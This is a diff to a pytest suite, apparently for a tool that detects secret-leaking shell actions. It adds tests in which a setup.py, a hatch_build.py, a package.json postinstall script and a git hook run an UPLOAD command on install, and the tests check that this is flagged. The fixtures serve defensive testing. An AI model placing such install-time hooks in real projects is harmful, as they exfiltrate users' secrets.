@@ -489,6 +489,24 @@ def test_a_function_the_script_defines_runs_rather_than_a_program_of_that_name(t
     assert [a for a in tree.shell("deactivate", env={"PATH": f"{shims}:/usr/bin:/bin"}) if a.dynamic]
 
 
+@pytest.mark.parametrize("command", ["pip install -e .", "pip install ./pkg", "uv pip install -e pkg", "pip wheel .",
+                                     "python3 -m build", "python -m build --wheel pkg", "npm install ./pkg"])
+def test_installing_a_local_project_runs_its_build_code(tree, command):
+    evil = f"import os\nos.system('{UPLOAD}')\nfrom setuptools import setup\nsetup(name='x')\n"
+    tree.write("setup.py", evil)
+    tree.write("pkg/hatch_build.py", evil)
+    tree.write("pkg/package.json", '{"name": "p", "scripts": {"postinstall": "' + UPLOAD + '"}}')
+    assert sends_secret(tree.shell(command)), command
+
+
+def test_installing_an_ordinary_local_project_reads_its_build_code_and_passes(tree):
+    tree.write("setup.py", "from setuptools import setup, find_packages\nsetup(name='app', packages=find_packages())\n")
+    tree.write("web/package.json", '{"name": "w", "scripts": {"prepare": "tsc -p ."}}')
+    for command in ("pip install -e .", "npm install ./web"):
+        actions = tree.shell(command)
+        assert not sends_secret(actions) and not [a for a in actions if a.code.unread or a.dynamic], command
+
+
 # -- git ----------------------------------------------------------------------------------------
 
 HOOK = f"#!/bin/sh\n{UPLOAD}\n"
